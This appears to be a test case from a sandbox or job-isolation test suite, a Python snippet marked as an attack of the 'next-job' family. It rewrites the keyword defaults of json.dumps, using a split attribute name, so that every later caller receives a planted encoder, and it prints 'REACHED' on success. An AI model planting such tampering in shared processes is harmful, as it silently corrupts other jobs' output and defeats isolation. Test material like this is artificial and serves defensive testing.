# attack: changes the defaults of a function of the library: all later callers get the script's encoder
# family: next-job
import json
class Encoder(json.JSONEncoder):
    def encode(self, thing):
        return "planted"
setattr(json.dumps, "__kw" + "defaults__", {"skipkeys": False, "ensure_ascii": True, "check_circular": True, "allow_nan": True, "cls": Encoder, "indent": None, "separators": None, "default": None, "sort_keys": False})
print("REACHED" if json.dumps({}) == "planted" else "")
